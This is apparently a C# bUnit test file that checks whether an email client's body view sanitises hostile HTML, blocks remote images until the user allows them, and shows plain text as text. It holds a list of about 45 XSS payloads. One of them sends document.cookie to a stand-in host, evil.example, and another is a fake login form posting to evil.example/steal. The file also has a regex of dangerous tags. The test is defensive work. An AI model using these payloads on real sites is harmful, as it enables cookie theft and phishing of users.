using Bunit;
using EmailSync.Core.Timeline;
using EmailSync.Web.Components.Pages.Customers.Components;
using System.Text.RegularExpressions;

namespace EmailSync.Tests.Web.Customers;

/// <summary>The opened email as rendered: hostile HTML goes through the allow-list sanitiser, remote images wait for "Show images".</summary>
public sealed partial class EmailBodyViewTests : CustomerComponentTestBase
{
    private static EmailContent Html(string html, IReadOnlyDictionary<string, long>? inline = null) =>
        new(1, "Subject", true, "text", null, html, inline ?? new Dictionary<string, long>(), [], "maria@northwind.example");

    public static TheoryData<string> HostileVectors => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<img src=`javascript:alert(1)`>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example/steal\"><input name=p type=password><button>Login</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"width: expression(alert(1))\">expr</div>",
        "<div style=\"background-image: url('javascript:alert(1)')\">bg</div>",
        "<div style=\"behavior: url(xss.htc)\">behavior</div>",
        "<div style=\"-moz-binding: url(https://evil.example/xss.xml#x)\">binding</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999\">overlay</div>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<p id=\"blazor-error-ui\" class=\"mud-overlay\">clobber</p>",
        "<a href=\"https://example.com\" target=\"_top\">link</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<img src=\"x\" alt=\"\" onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
        "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<template><script>alert(1)</script></template>",
        "<isindex action=javascript:alert(1) type=image>",
    };

    [Theory]
    [MemberData(nameof(HostileVectors))]
    public void HostileHtml_RendersWithoutScriptsHandlersOrActiveContent(string vector)
    {
        var view = Render<EmailBodyView>(p => p.Add(c => c.Content, Html($"<p>Hello</p>{vector}<p>Bye</p>")));

        var box = view.Find("[data-testid=email-html]");
        Assert.Contains("email-html", box.ClassName, StringComparison.Ordinal);
        var html = box.InnerHtml;
        Assert.DoesNotMatch(Dangerous(), html);
        foreach (var element in box.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"event handler {attribute.Name} survived in {vector}");
                Assert.NotEqual("id", attribute.Name);
                Assert.NotEqual("class", attribute.Name);
                Assert.DoesNotContain("javascript", attribute.Value.Replace("\t", "").Replace(" ", ""), StringComparison.OrdinalIgnoreCase);
            }

            if (element.LocalName == "a" && element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?:|mailto:|tel:)", href);
            }

            Assert.False(element.GetAttribute("style")?.Contains("position", StringComparison.OrdinalIgnoreCase) ?? false);
        }
    }

    [Fact]
    public void RemoteImages_AreBlockedUntilShowImages_AndCidImagesComeFromTheAttachmentEndpoint()
    {
        var view = Render<EmailBodyView>(p => p.Add(c => c.Content, Html(
            "<p>Logo <img src=\"cid:logo@acme\" alt=\"logo\"> and chart <img src=\"https://cdn.example/chart.png\" alt=\"chart\" width=\"300\" height=\"200\"></p>",
            new Dictionary<string, long> { ["logo@acme"] = 42 })));

        Assert.Contains("1 remote image is hidden", view.Find("[data-testid=images-blocked]").TextContent, StringComparison.Ordinal);
        Assert.Empty(view.FindAll("img[src^='https://cdn.example']"));
        Assert.Equal("/attachments/42/inline", view.Find("img[alt=logo]").GetAttribute("src"));

        view.Find("[data-testid=show-images]").Click();

        Assert.Equal("https://cdn.example/chart.png", view.Find("img[alt=chart]").GetAttribute("src"));
        Assert.Empty(view.FindAll("[data-testid=images-blocked]"));
    }

    [Fact]
    public void PlainText_IsShownAsText_NeverAsMarkup()
    {
        var view = Render<EmailBodyView>(p => p.Add(c => c.Content,
            new EmailContent(1, "S", true, "<b>not bold</b> <script>x</script>", "> earlier", null, new Dictionary<string, long>(), [], null)));

        Assert.Contains("<b>not bold</b>", view.Find("[data-testid=email-text]").TextContent, StringComparison.Ordinal);
        Assert.Empty(view.FindAll("b"));
        Assert.Empty(view.FindAll("script"));
    }

    [Fact]
    public void MetadataOnlyEmail_SaysSoAndWhy()
    {
        var view = Render<EmailBodyView>(p => p.Add(c => c.Content,
            new EmailContent(1, "S", false, null, null, null, new Dictionary<string, long>(), [], "tom@northwind.example")));

        var notice = view.Find("[data-testid=metadata-only]").TextContent;
        Assert.Contains("were imported, not its text", notice, StringComparison.Ordinal);
        Assert.Contains("matched no customer", notice, StringComparison.Ordinal);
        Assert.Contains("tom@northwind.example", notice, StringComparison.Ordinal);
    }

    [GeneratedRegex(@"<\s*(script|iframe|object|embed|svg|math|form|input|textarea|button|meta|base|link|style|template|video|audio|marquee|isindex|noscript)\b|javascript:|vbscript:|expression\s*\(|-moz-binding|behavior\s*:|srcdoc|data:text/html", RegexOptions.IgnoreCase)]
    private static partial Regex Dangerous();
}
